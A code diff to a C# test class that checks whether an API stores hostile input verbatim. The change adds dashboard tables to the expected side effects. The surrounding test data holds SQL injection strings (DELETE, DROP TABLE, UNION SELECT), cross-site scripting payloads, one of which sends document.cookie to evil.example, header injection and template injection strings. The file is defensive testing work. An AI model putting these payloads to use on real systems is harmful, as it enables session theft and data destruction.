@@ -464,10 +464,13 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
     internal sealed record HostileText(string Name, string Actor, string Path, object Body, string ReadPath,
         (string Field, object Expected)[] Fields, string GrowsByOne, string[] MayAlsoChange, bool NeedsFreshApplication = false);
 
+    /// <summary>The dashboards' read model, in governance, takes every service's events.</summary>
+    private static readonly string[] DashboardEffects = ["governance.inbox_messages", "governance.dashboard_facts", "governance.dashboard_counters"];
+
     private static readonly string[] SubmissionEffects =
     [
         "approvals.application_ledger", "approvals.outbox_messages", "approvals.inbox_messages", "approvals.notifications",
-        "approvals.audit_log", "governance.inbox_messages",
+        "approvals.audit_log", .. DashboardEffects,
     ];
 
     private static readonly HostileText[] Texts =
@@ -506,7 +509,7 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
             [("category", "'; DELETE FROM cases; --"), ("description", "<script>fetch('//evil.example/'+document.cookie)</script>\r\nX-Injected: 1"),
              ("photoRefs", new[] { "javascript:alert(1)" })],
             // governance's hotspot detector reads every reported case (its own CaseReported)
-            "governance.cases", ["governance.outbox_messages", "governance.audit_log", "governance.case_history", "governance.inbox_messages"]),
+            "governance.cases", ["governance.outbox_messages", "governance.audit_log", "governance.case_history", .. DashboardEffects]),
         new("sql-and-template-injection-in-a-certification", "citizen", "/api/talent/v1/certifications",
             new
             {
@@ -515,7 +518,7 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
             },
             "/api/talent/v1/certifications/{id}",
             [("employer", "\"; DROP TABLE certifications; --"), ("sector", "<svg/onload=alert(1)>"), ("evidence", new[] { "{{constructor.constructor('alert(1)')()}}" })],
-            "talent.certifications", ["talent.outbox_messages", "talent.audit_log"]),
+            "talent.certifications", ["talent.outbox_messages", "talent.audit_log", .. DashboardEffects]),
         new("template-and-union-select-in-a-project", "citizen", "/api/livelihood/v1/projects",
             new
             {
@@ -524,14 +527,14 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
             },
             "/api/livelihood/v1/projects/{id}",
             [("title", "{{7*7}} ${7*7} <%= 7*7 %>"), ("rationale", "' UNION SELECT * FROM outbox_messages --\n<iframe src=//evil.example></iframe>")],
-            "livelihood.projects", ["livelihood.outbox_messages", "livelihood.audit_log"]),
+            "livelihood.projects", ["livelihood.outbox_messages", "livelihood.audit_log", .. DashboardEffects]),
         new("script-in-a-reason-for-not-accepting", "clerk", A + "/{fresh}:notAccept",
             new { reason = "<script>alert(document.domain)</script> ' OR 1=1 --" },
             A + "/{fresh}", [("statusReason", "<script>alert(document.domain)</script> ' OR 1=1 --"), ("status", "APPLICATION_STATUS_NOT_ACCEPTED")],
             // talent reads every refusal to accept, for the claims it asked approvals to open; governance, for the cases
-            // waiting on an application (flow 1)
+            // waiting on an application (flow 1) and the dashboards; the clerk's read of the application is in the read log
             "approvals.application_ledger", ["approvals.outbox_messages", "approvals.inbox_messages", "approvals.notifications", "approvals.audit_log",
-                "talent.inbox_messages", "governance.inbox_messages"],
+                "approvals.personal_data_reads", "talent.inbox_messages", .. DashboardEffects],
             NeedsFreshApplication: true),
     ];
 
